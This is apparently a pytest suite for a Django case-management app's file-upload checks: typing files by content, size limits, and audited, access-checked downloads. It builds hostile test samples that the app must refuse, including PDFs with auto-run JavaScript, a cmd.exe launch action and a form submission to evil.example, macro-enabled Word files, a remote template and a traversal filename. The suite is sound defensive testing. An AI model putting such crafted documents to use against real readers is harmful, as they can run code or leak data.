"""Attachments: type by content, size limit, stored outside static, served only through the audited view."""

import io
import zipfile

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from audit.models import AuditEvent
from cases.models import Attachment, CaseStatus

from .conftest import blank_pdf


@pytest.fixture(autouse=True)
def _files(settings, tmp_path):
    settings.OPENDOOR_FILES_DIR = str(tmp_path / "files")
    settings.OPENDOOR_MAX_UPLOAD_MB = 1


def docx_bytes(macro=False):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
        if macro:
            z.writestr("word/vbaProject.bin", "x")
    return buffer.getvalue()


PDF = blank_pdf()
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40


def upload(client, case, name, content, kind="consent"):
    return client.post(reverse("case_attach", args=[case.code]),
                       {"kind": kind, "file": SimpleUploadedFile(name, content)}, follow=True)


@pytest.mark.parametrize(("name", "content", "stored"), [
    ("Согласие Смирновой.pdf", PDF, "pdf"), ("скан.PNG", PNG, "png"), ("photo.jpeg", b"\xff\xd8\xff\xe0" + b"0" * 20,
                                                                    "jpg"),
    ("письмо.docx", docx_bytes(), "docx"), ("letter.pdf.exe/../x.doc", PDF, "pdf"),
])
def test_accepted_files_are_typed_by_content(client, cast, make_case, name, content, stored):
    case = make_case(upto=CaseStatus.PREPARATION)
    client.force_login(cast.facilitator)
    page = upload(client, case, name, content).content.decode()
    assert "Файл прикреплён." in page
    attachment = Attachment.objects.get()
    assert attachment.file_type == stored and attachment.name.endswith("." + stored)
    assert "/" not in attachment.name and ".." not in attachment.name
    assert attachment.path.read_bytes() == content
    assert str(attachment.path).startswith(settings.OPENDOOR_FILES_DIR)
    assert not str(attachment.path).startswith(str(settings.STATIC_ROOT))


@pytest.mark.parametrize(("name", "content"), [
    ("virus.pdf", b"MZ\x90\x00 this is an exe"), ("macro.docx", docx_bytes(macro=True)),
    ("page.png", b"<html><script>alert(1)</script>"), ("big.pdf", PDF + b"0" * (1024 * 1024 + 10)),
])
def test_refused_files_get_a_clear_message_and_nothing_is_stored(client, cast, make_case, name, content):
    case = make_case(upto=CaseStatus.PREPARATION)
    client.force_login(cast.facilitator)
    page = upload(client, case, name, content).content.decode()
    assert ("Принимаются только файлы PDF, JPEG, PNG и DOCX" in page or "больше 1 МБ" in page
            or "Документ Word не принят" in page)
    assert Attachment.objects.count() == 0


def pdf_with(extra_objects, root_extra=""):
    """A small PDF whose catalogue and objects are written by hand, as an attacker would."""
    objects = [f"<< /Type /Catalog /Pages 2 0 R {root_extra} >>",
               "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", *extra_objects]
    body, offsets = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, start=1):
        offsets.append(len(body))
        body += f"{number} 0 obj\n{text}\nendobj\n".encode()
    xref = len(body)
    body += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    body += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    body += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF".encode()
    return body


HOSTILE_PDFS = {
    "open-action script": pdf_with(["<< /S /JavaScript /JS (app.alert(1)) >>"], "/OpenAction 4 0 R"),
    "escaped name": pdf_with(["<< /S /J#61vaScript /J#53 (app.alert(1)) >>"], "/OpenAction 4 0 R"),
    "launch": pdf_with(["<< /S /Launch /F (cmd.exe) >>"], "/OpenAction 4 0 R"),
    "embedded file": pdf_with(["<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream"],
                              "/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>"),
    "submit form": pdf_with(["<< /S /SubmitForm /F (http://evil.example/) >>"], "/AA << /O 4 0 R >>"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_PDFS))
def test_pdfs_that_act_are_refused(client, cast, make_case, name):
    case = make_case(upto=CaseStatus.PREPARATION)
    client.force_login(cast.facilitator)
    page = upload(client, case, "скан.pdf", HOSTILE_PDFS[name]).content.decode()
    assert "PDF содержит сценарии, действия или вложенные файлы" in page, name
    assert Attachment.objects.count() == 0
    assert "PDF содержит" not in upload(client, case, "скан.pdf", pdf_with([])).content.decode()


def docx_with(**parts):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("[Content_Types].xml", parts.pop("types", "<Types/>"))
        z.writestr("word/document.xml", "<w:document/>")
        for name, content in parts.items():
            z.writestr(name.replace("__", "/").replace("_rels", "_rels"), content)
    return buffer.getvalue()


@pytest.mark.parametrize("content", [
    docx_with(word__embeddings__oleObject1_bin="x"),
    docx_with(word__activeX__activeX1_xml="<ax/>"),
    docx_with(types='<Types><Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'),
    docx_with(**{"word___rels__settings.xml.rels": '<Relationships><Relationship Id="r1" Type="http://schemas.'
                 'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                 'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'}),
    docx_with(**{"word___rels__document.xml.rels": '<Relationships><Relationship Id="r2" Type="http://schemas.'
                 'openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="x.html"/></Relationships>'}),
])
def test_word_documents_with_macros_objects_or_remote_parts_are_refused(client, cast, make_case, content):
    case = make_case(upto=CaseStatus.PREPARATION)
    client.force_login(cast.facilitator)
    page = upload(client, case, "письмо.docx", content).content.decode()
    assert "Документ Word не принят" in page
    assert Attachment.objects.count() == 0
    hyperlink = docx_with(**{"word___rels__document.xml.rels": '<Relationships><Relationship Id="r3" Type="http://'
                             'schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
                             'Target="https://example.ru/" TargetMode="External"/></Relationships>'})
    assert "Файл прикреплён." in upload(client, case, "письмо.docx", hyperlink).content.decode()


def test_files_are_served_only_through_the_access_checked_audited_view(client, cast, make_case):
    case = make_case(upto=CaseStatus.PREPARATION)
    client.force_login(cast.facilitator)
    upload(client, case, "Согласие.pdf", PDF)
    attachment = Attachment.objects.get()
    url = reverse("case_attachment", args=[case.code, attachment.code])
    response = client.get(url)
    assert response.content == PDF and response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith(f'attachment; filename="{attachment.code}.pdf"')
    assert AuditEvent.objects.filter(action="case.attachment.read", actor=cast.facilitator).count() == 1
    for login in ("facilitator2", "secretary", "guardian", "admin"):
        client.force_login(getattr(cast, login))
        assert client.get(url).status_code == 404
    other = make_case(upto=CaseStatus.PREPARATION)
    client.force_login(cast.coordinator)
    # The attachment code under another case's URL is not found.
    assert client.get(reverse("case_attachment", args=[other.code, attachment.code])).status_code == 404
